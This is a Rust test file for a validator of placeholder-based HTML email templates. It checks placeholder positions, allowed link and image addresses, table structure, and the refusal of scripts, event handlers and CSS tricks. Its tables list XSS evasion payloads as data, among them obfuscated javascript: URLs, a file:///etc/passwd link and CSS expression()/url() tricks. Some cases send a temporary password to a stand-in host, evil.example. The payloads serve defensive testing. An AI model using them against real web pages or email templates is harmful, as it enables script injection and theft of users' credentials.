//! What the HTML may be made of, and where a placeholder may stand in it.

use super::*;

#[test]
fn a_placeholder_stands_in_text_or_in_a_quoted_attribute() {
    let outside = "and nowhere else";
    let table = [
        ("<{{name}}>", 2, outside),
        ("<b{{name}}>", 3, outside),
        ("</{{name}}>", 3, outside),
        ("</b{{name}}>", 4, outside),
        ("<{{name}}script>", 2, outside),
        ("<{{#if name}}b{{/if}}>", 2, outside),
        ("<p {{name}}>", 4, outside),
        ("<p {{name}}=\"x\">", 4, outside),
        ("<p {{#if name}}title=\"x\"{{/if}}>", 4, outside),
        ("<p title={{name}}>", 10, outside),
        ("<p title=x{{name}}>", 11, outside),
        ("<p title={{name}} class=\"x\">", 10, outside),
        ("<!-- {{name}} -->", 6, outside),
        ("<!--{{#if name}}-->x<!--{{/if}}-->", 5, outside),
        ("<!{{name}}>", 3, outside),
        ("<?{{name}}>", 3, outside),
        ("<!doctype {{name}}>", 11, outside),
        ("<style>{{name}}</style>", 8, outside),
        ("<style>a{ {{name}} }</style>", 11, outside),
        ("<script>{{name}}</script>", 9, outside),
        ("<textarea>{{name}}</textarea>", 11, outside),
        ("<p title=\"{{name}}", 11, outside),
        ("<p title=\"{{name}}\"", 11, "stand in"),
        ("<p style=\"color:{{name}}\">", 11, "in a style"),
        ("<p onclick=\"{{name}}\">", 4, "`onclick` is not possible"),
        ("<p onclick=\"{{name}}\">", 13, "no placeholder may stand"),
        ("<title><{{name}}</title>", 8, "no tags inside"),
        ("<title></title{{name}}></title>", 8, "no tags inside"),
        ("x &{{name}};", 4, "character reference"),
        ("x &#4{{#if name}}{{/if}}7;", 6, "character reference"),
        ("<a {{#if name}}href=\"{{/if}}\">x</a>", 4, outside),
        ("{{#if name}}<b title=\"{{/if}}\">", 1, "begin and end in text"),
        ("<b title=\"{{#if name}}\">{{/if}}", 11, "begin and end in text"),
        ("<b title=\"{{#if name}}\" class=\"{{/if}}\">", 11, "begin and end in text"),
        ("{{#if name}}<title>{{else}}x</title>{{/if}}", 1, "begin and end in text"),
        ("<title>{{#if name}}</title><title>{{/if}}</title>", 8, "begin and end in text"),
    ];
    for (source, column, words) in table {
        if words == "stand in" {
            assert!(!found(Part::Html, &html(source)).is_empty());
            continue;
        }
        assert_refused(Part::Html, &html(source), column, words);
    }
    let fine = [
        "<p title=\"{{name}}\" class='{{#if name}}x{{else}}{{division.name}}{{/if}}'>{{name}}</p>",
        "{{#each accounts}}<tr><td>{{this.id}}</td></tr>{{/each}}",
        "<title>{{division.name}}</title>",
        "{{#if name}}<b>{{name}}</b>{{else}}<i>{{/if}}",
        "<b class=\"x\" title=\"y\"><b class=\"x\"></b></b><b class=\"x\">x</b>",
        "<!-- a comment --><p>a &lt; b &amp; c&nbsp;{{name}}",
        "<style>a { justify-content: center; align-content: center } .content { color: red }</style>",
    ];
    for source in fine {
        assert_eq!(found(Part::Html, &html(source)), [], "{source}");
    }
}

#[test]
fn an_address_is_a_placeholder_for_one_or_literal() {
    let whole = "the placeholder alone";
    let full = "an address in full";
    let user = "no user name";
    let table = [
        ("<a href=\"{{name}}\">", 10, whole),
        ("<a href=\"https://x.example/{{name}}\">", 10, whole),
        ("<a href=\"{{activationLink}}&x=1\">", 10, whole),
        ("<a href=\"{{activationLink}}{{name}}\">", 10, whole),
        ("<a href=\" {{activationLink}}\">", 10, whole),
        ("<a href=\"{{temporaryPassword}}\">", 10, whole),
        ("<a href=\"{{division.contactAddress}}\">", 10, whole),
        ("<a href=\"{{#if name}}https://a.example{{/if}}\">", 10, whole),
        ("<a href=\"{{#if name}}java{{else}}x{{/if}}script:alert(1)\">", 10, whole),
        ("<img src=\"{{activationLink}}\">", 11, whole),
        ("<img src=\"{{division.portalUrl}}\">", 11, whole),
        ("<img src=\"https://x.example/?p={{temporaryPassword}}\">", 11, whole),
        ("<td background=\"{{division.logoUrl}}\">", 5, "`background` is not possible"),
        ("<a href=\"javascript:alert(1)\">", 10, full),
        ("<a href=\"JaVaScRiPt:alert(1)\">", 10, full),
        ("<a href=\" javascript:alert(1)\">", 10, full),
        ("<a href=\"java\tscript:alert(1)\">", 10, full),
        ("<a href=\"&#106;avascript:alert(1)\">", 10, full),
        ("<a href=\"javascript&colon;alert(1)\">", 10, full),
        ("<a href=javascript:alert(1)>", 9, full),
        ("<a href=\"data:text/html,x\">", 10, full),
        ("<a href=\"vbscript:x\">", 10, full),
        ("<a href=\"file:///etc/passwd\">", 10, full),
        ("<a href=\"//x.example\">", 10, full),
        ("<a href=\"/x\">", 10, full),
        ("<a href=\"https:x.example\">", 10, full),
        ("<a href=\"https:\\\\x.example\">", 10, full),
        ("<a href=\"https://\">", 10, full),
        ("<a href=\"https://portal.example.com@x.example/\">", 10, user),
        ("<a href=\"HTTP://a:b@x.example\">", 10, user),
        ("<a href=\"https://portal.example.com&#64;x.example\">", 10, user),
        ("<a href=\"https://@x.example?y\">", 10, user),
        ("<a href=\"https:///a@x.example\">", 10, user),
        ("<a href=\"https://a%40x.example/\">", 10, full),
        ("<img src=\"https://portal.example.com@x.example/y.png\">", 11, user),
        ("<a href=\"tel:123\">", 10, full),
        ("<img src=\"data:image/png;base64,x\">", 11, full),
        ("<img src=\"mailto:a@x.example\">", 11, full),
        ("<img src=\"cid:x\">", 11, full),
        ("<img srcset=\"https://x.example/a 2x\">", 6, "`srcset` is not possible"),
        ("<a ping=\"https://x.example\">", 4, "`ping` is not possible"),
        ("<p formaction=\"https://x.example\">", 4, "not possible"),
        ("<p href=\"https://x.example\">", 4, "not possible on `<p>`"),
        ("<a xlink:href=\"https://x.example\">", 4, "not possible"),
    ];
    for (source, column, words) in table {
        assert_refused(Part::Html, &html(source), column, words);
    }
    let fine = [
        "<a href=\"https://x.example/a?b=1&amp;c=2#d\"><img src='http://x.example/y.png' alt=\"\"></a>",
        "<a href=\"HTTPS://x.example\">x</a> <a href=\"https://x.example/@y?z=a@b#c@d\">x</a>",
        "<a href=\"mailto:a@x.example\">x</a> <a href=\"mailto:{{division.contactAddress}}\">x</a>",
        "<a href=\"{{division.portalUrl}}\">x</a> <img src=\"{{ division.logoUrl }}\"> <td bgcolor=\"#ffffff\">",
    ];
    for source in fine {
        assert_eq!(found(Part::Html, &html(source)), [], "{source}");
    }
}

/// What a browser shows as one run of text is one for the rules about addresses in text.
#[test]
fn only_the_beginning_of_a_line_ends_an_address() {
    let before = "the address before it";
    let secret = "must stand by itself";
    let table = [
        ("<!--x-->", before),
        ("<wbr>", before),
        ("<span>", before),
        ("<b></b>", before),
        ("<img src=\"https://x.example/y\">", before),
        ("&nosuch;", before),
        ("<style>a b</style>", before),
        ("<title>a b</title>", before),
        ("<!DOCTYPE html>", before),
        ("<body>", before),
        ("</div>", before),
        ("<td>", before),
        ("</table>", before),
        ("<table>", before),
        ("{{#if name}}<br>{{/if}}", before),
    ];
    for (between, words) in table {
        let source = format!("https://evil.example/?p={between}{{{{temporaryPassword}}}}");
        assert_refused(Part::Html, &html(&source), 25 + between.chars().count(), words);
        let source = format!("{{{{temporaryPassword}}}}{between}.evil.example");
        assert_refused(Part::Html, &html(&source), 1, secret);
    }
    for line in
        ["<br>", "<p>", "</p>", "<div class=\"x\">", "<li>", "<h1>", "<hr>", "<!--x--><blockquote>", "<table><tr><td>"]
    {
        let source = format!("https://x.example/?p={line}{{{{temporaryPassword}}}}{line}x");
        assert_eq!(found(Part::Html, &html(&source)), [], "{source}");
    }
}

#[test]
fn text_in_a_table_stands_in_a_cell() {
    let cell = "must stand in a cell";
    let close = "must close the tables";
    let table = [
        ("<table>x", 8, cell),
        ("<table><tr> x<td>", 13, cell),
        ("<table><tr><td>x</td>{{name}}", 22, cell),
        ("<table><tr><b>{{name}}", 15, cell),
        ("<table><tr><th>x</td>y", 22, cell),
        ("<table><tr><td><table><tr><td></table>x</table>y<table>{{name}}", 56, cell),
        ("{{#if name}}<table>{{/if}}", 20, close),
        ("<table>{{#if name}}<td>{{else}}{{/if}}", 24, close),
        ("<table><td>{{#if name}}{{else}}</td>{{/if}}", 37, close),
    ];
    for (source, column, words) in table {
        assert_refused(Part::Html, &html(source), column, words);
    }
    let fine = [
        "<table>\n<caption>x</caption>\n<tr> <th>x</th><td>{{name}}</td> </tr>\n</table>x",
        "<table>{{#each accounts}}\n<tr><td>{{this.id}}</td></tr>\n{{/each}}</table>",
        "{{#if name}}<table><tr><td>{{name}}</td><td>x<table><td>x</table>y</table>{{/if}}",
        "<table><td>{{#if name}}x</td><td>{{/if}}</table>",
    ];
    for source in fine {
        assert_eq!(found(Part::Html, &html(source)), [], "{source}");
    }
}

#[test]
fn what_runs_fetches_or_sends_by_itself_is_refused() {
    let not = "is not possible";
    let table = [
        ("<script>alert(1)</script>", 1, "scripts are not possible"),
        ("<SCRIPT src=\"https://x.example\"></SCRIPT>", 1, "scripts are not possible"),
        ("<b><script/x>", 4, "scripts are not possible"),
        ("<iframe src=\"https://x.example\"></iframe>", 1, not),
        ("<object></object>", 1, not),
        ("<embed>", 1, not),
        ("<form action=\"https://x.example\">", 1, not),
        ("<input>", 1, not),
        ("<button>", 1, not),
        ("<base href=\"https://x.example\">", 1, not),
        ("<link rel=\"stylesheet\" href=\"https://x.example\">", 1, not),
        ("<svg onload=\"x\">", 1, not),
        ("<math>", 1, not),
        ("<template>", 1, not),
        ("<noscript>", 1, not),
        ("<video>", 1, not),
        ("<marquee>", 1, not),
        ("<x-y>", 1, not),
        ("<meta http-equiv=\"refresh\" content=\"0;url=https://x.example\">", 19, "`http-equiv` can only be"),
        ("<meta http-equiv=\"&#114;efresh\">", 19, "`http-equiv` can only be"),
        ("<body background=\"https://x.example\">", 7, "`background` is not possible on `<body>`"),
        ("<table BACKGROUND='https://x.example'>", 8, "`background` is not possible on `<table>`"),
        ("<tr background=\"https://x.example\">", 5, "`background` is not possible on `<tr>`"),
        ("<td background=\"https://x.example\">", 5, "`background` is not possible on `<td>`"),
        ("<th background=https://x.example>", 5, "`background` is not possible on `<th>`"),
        ("<p onclick=\"x\">", 4, "`onclick` is not possible"),
        ("<p ONCLICK=x>", 4, "`onclick` is not possible"),
        ("<p/onclick=x>", 4, "`onclick` is not possible"),
        ("<p title=\"x\"onclick=\"x\">", 13, "`onclick` is not possible"),
        ("<p onclick>", 4, "`onclick` is not possible"),
        ("<p class=\"a\" class=\"b\" onfocus=\"x\">", 24, "`onfocus` is not possible"),
        ("<a ses:tags=\"x:y\" href=\"https://x.example\">", 4, "`ses:tags` is not possible"),
        ("<p style=\"background: url(https://x.example)\">", 11, "`url(…)`"),
        ("<p style=\"background: u&#114;l(https://x.example)\">", 11, "`url(…)`"),
        ("<p style=\"x: \\75rl(y)\">", 11, "a backslash"),
        ("<p style=\"width: expression(x)\">", 11, "`expression(…)`"),
        ("<style>@import 'https://x.example';</style>", 8, "`@import`"),
        ("<style>a[href*='x'] { background: URL(x) }</style>", 35, "`url(…)`"),
        ("<style>a { background: image-set('x' 1x) }</style>", 24, "`image-set(…)`"),
        ("<style>a { } <script></style>", 14, "no tags"),
        (
            "<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://x.example/y')\">",
            11,
            "`progid:…`",
        ),
        ("<style>a { filter: alphaimageloader(src='y') }</style>", 20, "`AlphaImageLoader`"),
        ("<style>a { b: 'https://x.example/' }</style>", 22, "an address"),
        ("<p style=\"b: '//x.example/'\">", 11, "an address"),
        ("<style>a::before { content: 'portal.example.com' }</style>", 20, "`content`"),
        ("<style>a { b: exp/*x*/ression(y) }</style>", 8, "`expression(…)`"),
        ("<style>a { b: u/**/rl(y) }</style>", 8, "`url(…)`"),
        ("<style><!-- a { } --></style>", 8, "no tags or HTML comments"),
        ("<style>a { } </b></style>", 14, "no tags"),
        ("<p style=\"x: <b\">", 11, "no tags"),
        ("<p>x</p><style>a { }", 9, "`<style>` is not closed"),
        ("<title>x", 1, "`<title>` is not closed"),
        ("<!--[if mso]><b>x</b><![endif]-->", 1, "conditional comments"),
        ("<![if !mso]>", 1, "conditional comments"),
        ("<a href=\"https://x.example/\" href=\"{{activationLink}}\">x</a>", 30, "`href` stands here twice"),
        ("<a href='{{activationLink}}' class=x HREF='{{activationLink}}'>x</a>", 38, "`href` stands here twice"),
        ("<td hidden hidden>", 12, "`hidden` stands here twice"),
        ("a < b", 3, "not proper HTML"),
        ("<p title=\"x\"class=\"y\">", 13, "not proper HTML"),
        ("<p title=\"x", 12, "not proper HTML"),
    ];
    for (source, column, words) in table {
        assert_refused(Part::Html, &html(source), column, words);
    }
}
